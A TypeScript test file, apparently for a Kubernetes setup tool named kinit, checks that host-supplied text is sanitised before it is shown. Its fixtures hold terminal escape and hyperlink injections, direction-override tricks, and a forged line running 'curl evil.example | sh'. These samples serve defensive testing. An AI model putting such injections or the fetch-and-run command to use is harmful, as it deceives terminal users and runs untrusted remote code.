import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { KinitError } from '../../../src/errors.ts';
import type { Change } from '../../../src/execute/change.ts';
import type { Decided } from '../../../src/execute/decided.ts';
import { tokenList } from '../../../src/kube/token-list.ts';
import { expirationText } from '../../../src/pki/expiration.ts';
import { preflightError, preflightJson, warningLines } from '../../../src/preflight/report.ts';
import { preflightTable } from '../../../src/preflight/table.ts';
import { escaped, isPrintable, jsonText, marked, oneLine, printable } from '../../../src/printable.ts';
import { errorText } from '../../../src/report/error-text.ts';
import { table } from '../../../src/report/host-table.ts';
import { loggedReporter } from '../../../src/report/log-file.ts';
import { openReporter } from '../../../src/report/open.ts';
import { outcomeTable } from '../../../src/report/outcome-table.ts';
import { planScript } from '../../../src/report/plan-script.ts';
import { planText } from '../../../src/report/plan-text.ts';
import type { ReportEvent, Reporter } from '../../../src/report/reporter.ts';
import { statusText } from '../../../src/report/status-text.ts';
import { upText } from '../../../src/report/up-text.ts';
import { warningsText } from '../../../src/report/warnings-text.ts';
import { parseYaml, toYaml } from '../../../src/yaml.ts';
import { kinit } from '../../command-line.ts';

/** What a host or a cluster may say to deceive whoever reads it. */
const hostile = {
  'an escape sequence': '\u001b[2J',
  'a title': '\u001b]0;owned\u0007',
  'a hyperlink': '\u001b]8;;https://evil.example\u001b\\ok\u001b]8;;\u001b\\',
  'an escape of eight bits': '\u009b31m',
  'a backspace': 'no\b\byes',
  'a deletion': 'no\u007f\u007fyes',
  'a carriage return': 'failed\rall is well',
  'a next line': 'a\u0085b',
  'a line separator': 'a\u2028b\u2029c',
  'an override of the direction': 'a\u202egnp.exe\u202c',
  'an isolate': 'a\u2066b\u2069',
  'a mark of the direction': 'a\u200fb\u061cc',
  'what has no width': 'pr\u200bo\u2060d\ufeff\u00ad\u180e',
  'a joiner that joins no emoji': 'pr\u200dod\ufe0f',
  'a filler that looks like nothing': 'a\u3164b\uffa0c\u115f',
  'tags, which hold whole texts': 'a\u{e0068}\u{e0069}\u{e007f}b\u{e0101}',
  'marks of an annotation': 'a\ufff9b\ufffac\ufffb',
} as const;

const forged = 'no\nFORGED [init] all is well\n  FORGED run: curl evil.example | sh';
const everything = `${Object.values(hostile).join(' ')} ${forged}`;
const now = Date.UTC(2026, 0, 1);
const error = new KinitError(`it said: ${everything}`, { host: 'w1', hint: 'look there' });

const decided: readonly Decided[] = [
  { phase: 'prepare', change: { kind: 'absent', path: `/x/${everything}` } },
  { phase: 'prepare', change: { kind: 'command', argv: ['umount', everything] } },
  {
    phase: 'prepare',
    change: { kind: 'file', path: '/etc/hosts', content: `new\n`, mode: 0o644 } satisfies Change,
    before: everything,
  },
];

const status = {
  server: 'https://10.0.0.11:6443',
  problem: undefined,
  version: everything,
  failing: [everything],
  components: [{ name: everything, node: everything, ready: false, restarts: 1, remark: everything }],
  nodes: [
    {
      name: 'w1',
      roles: [everything],
      ready: false,
      remarks: [everything],
      version: everything,
      runtime: everything,
      address: everything,
      system: everything,
    },
  ],
  hosts: [{ name: 'w2', role: 'worker' as const, problem: everything, joined: false }],
  balancers: [
    {
      node: everything,
      kind: everything,
      problem: everything,
      servers: [{ name: everything, isUp: false }],
      holds: everything,
    },
  ],
  apiServers: [{ node: everything, server: everything, problem: everything, failing: [everything] }],
  snapshots: [{ node: everything, age: 99999, every: 60, overdue: true }],
  etcd: {
    problem: undefined,
    tolerates: 0,
    members: [
      {
        name: everything,
        id: everything,
        peerUrl: everything,
        role: 'leader' as const,
        votes: true,
        version: everything,
        databaseBytes: 1,
        alarms: [everything],
      },
    ],
  },
  certificates: [
    {
      node: everything,
      info: {
        certificates: [{ name: everything, notAfter: now + 1e9, authority: everything, external: false }],
        authorities: [],
      },
    },
  ],
};

const problem = {
  name: 'Swap',
  severity: 'error' as const,
  message: everything,
  evidence: everything,
  mend: everything,
};
const result = {
  errors: [problem],
  warnings: [{ ...problem, severity: 'warning' as const }],
};

const bootstrapToken = {
  token: 'abcdef.0123456789abcdef',
  description: everything,
  usages: ['signing'],
  groups: [everything],
};

/** Everything that puts what a host or a cluster says into a text for a person. */
const texts: readonly (readonly [string, () => string])[] = [
  ['an error', () => errorText(error, { verbosity: 0 })],
  ['the table of hosts', () => outcomeTable(['RESULT'], [{ host: everything, cells: ['failed'], error }])],
  ['a table as paragraphs', () => table(['NODE', 'VERSION'], [['w1', everything]], 10)],
  ['kinit status', () => statusText(status, now)],
  ['kinit status without etcd', () => statusText({ ...status, etcd: { ...status.etcd, problem: everything } }, now)],
  ['kinit status without an API', () => statusText({ ...status, problem: everything }, now)],
  ['kinit token list', () => tokenList([bootstrapToken], 'text', now)],
  ['kinit certs check-expiration', () => expirationText(status.certificates[0]!.info, now)],
  ['kinit preflight', () => preflightTable([{ host: 'w1', result }])],
  ['preflight in a narrow terminal', () => preflightTable([{ host: 'w1', result }], 40)],
  ['the block of preflight errors', () => errorText(preflightError(result), { verbosity: 0 })],
  ['preflight warnings', () => warningLines(result).join('\n')],
  ['warnings below a live view', () => warningsText([{ host: 'w1', text: everything }])],
  ['a plan', () => planText(decided)],
  [
    'how up ends',
    () =>
      upText(
        {
          outcomes: [{ host: 'cp1', result: 'failed', changed: [], error, ms: 1 }],
          leader: 'cp1',
          unready: new Map([['w1', everything]]),
          strangers: [everything],
          leaving: [],
          assumed: false,
          server: undefined,
        },
        { file: 'cluster.yaml', hasNetwork: true, ms: 1 },
      ),
  ],
];

const events: readonly ReportEvent[] = [
  { type: 'warning', host: 'w1', text: everything },
  { type: 'host', host: 'w1', state: 'failed', reason: everything },
  { type: 'waiting', host: 'w1', what: everything.replaceAll('\n', ' '), deadline: 1 },
];

async function told(open: (out: Writable) => Reporter | Promise<Reporter>): Promise<string> {
  let text = '';
  const out = new Writable({
    write(chunk, _, done) {
      text += String(chunk);
      done();
    },
  });
  const reporter = await open(out);
  for (const event of events) reporter.report(event);
  await reporter.end();
  return text;
}

const reporter = (out: Writable, more: object) =>
  openReporter({ stdout: out, stderr: out, terminal: out, env: {}, now: () => now, ...more });
const terminal = { isTTY: true, columns: 200, rows: 24 };

/** Lines that a host would have put there as if they were kinit's: at the edge, or where a hint stands. */
const forgedLines = (text: string) => text.split('\n').filter((line) => /^FORGED|^\s+FORGED run/.test(line));

describe('what a host or a cluster says', () => {
  it.each(Object.entries(hostile))('steers no terminal with %s', (_, text) => {
    expect(isPrintable(printable(`before ${text} after`))).toBe(true);
    expect(isPrintable(oneLine(text))).toBe(true);
    expect(isPrintable(marked(text))).toBe(true);
  });

  it('keeps newlines, tabs, every letter of the world and what joins an emoji', () => {
    const text = '控制平面\tготов\n👩‍🚀 é ❤️ 👍🏽‍🔥';
    expect(printable(text)).toBe(text);
  });

  it.each(texts)('is safe on a terminal in %s, and no line of it passes for kinit’s', (_, text) => {
    const seen = printable(text());
    expect(seen).toContain('\ufffd');
    expect(forgedLines(seen)).toEqual([]);
  });

  it.each([
    ['lines', {}],
    ['lines of many hosts', { manyHosts: true }],
  ])('is safe in a story told in %s', async (_, more) => {
    const seen = await told((out) => reporter(out, more));
    expect(isPrintable(seen)).toBe(true);
    expect(forgedLines(seen.replaceAll(/^w1: /gm, ''))).toEqual([]);
  });

  it('is safe in a live view, which moves the cursor itself', async () => {
    const seen = await told((out) => reporter(Object.assign(out, terminal), { manyHosts: true }));
    for (const text of ['\u001b[2J\u001b]', 'owned\u0007', '\u009b', '\u202e', '\u2028', '\b']) {
      expect(seen).not.toContain(text);
    }
  });

  it('is what it was in the events, whose text is safe on a terminal too', async () => {
    const seen = await told((out) => reporter(out, { json: true }));
    const read = seen
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as { text?: string; reason?: string });
    expect([read[0]?.text, read[1]?.reason]).toEqual([everything, everything]);
    expect(isPrintable(seen)).toBe(true);
  });

  it('is what it was in the log', () => {
    const lines: string[] = [];
    const silent = { report: () => undefined, end: () => undefined };
    loggedReporter(
      silent,
      (line) => lines.push(line),
      () => now,
    ).report(events[0] as ReportEvent);
    expect(JSON.parse((lines[0] ?? '').replace(/^\S+ /, ''))).toEqual(events[0]);
    expect(isPrintable(lines.join(''))).toBe(true);
  });

  it.each([
    ['preflight -o json', jsonText(preflightJson([{ host: 'w1', result }])), JSON.parse],
    ['token list -o json', tokenList([bootstrapToken], 'json', now), JSON.parse],
    [
      'token list -o yaml',
      tokenList([bootstrapToken], 'yaml', now),
      (text: string) => parseYaml(text, 'out')[0]?.value,
    ],
  ])('is what it was in %s', (_, text, read) => {
    expect(isPrintable(text)).toBe(true);
    expect(JSON.stringify(read(text))).toContain(JSON.stringify(everything));
  });

  it.each(Object.entries(hostile))('comes back from YAML as it was: %s', (_, text) => {
    const value = { [text]: text, list: [`${text}\nmore\n`] };
    expect(isPrintable(toYaml(value))).toBe(true);
    expect(parseYaml(toYaml(value), 'out')[0]?.value).toEqual(value);
  });

  it('comes out of a script as it was', () => {
    const script = planScript({ host: everything, changes: decided });
    expect(isPrintable(script)).toBe(true);
  });

  it('steers no terminal through what the command line says of it', async () => {
    const ran = await kinit(['config', 'validate', '--config', `/nonexistent/${everything}`]);
    expect(ran.code).not.toBe(0);
    expect(isPrintable(ran.err)).toBe(true);
    expect(forgedLines(ran.err)).toEqual([]);
  });
});

describe('escaped text', () => {
  it('reads as it was', () => {
    expect(JSON.parse(escaped(JSON.stringify(everything)))).toBe(everything);
  });
});
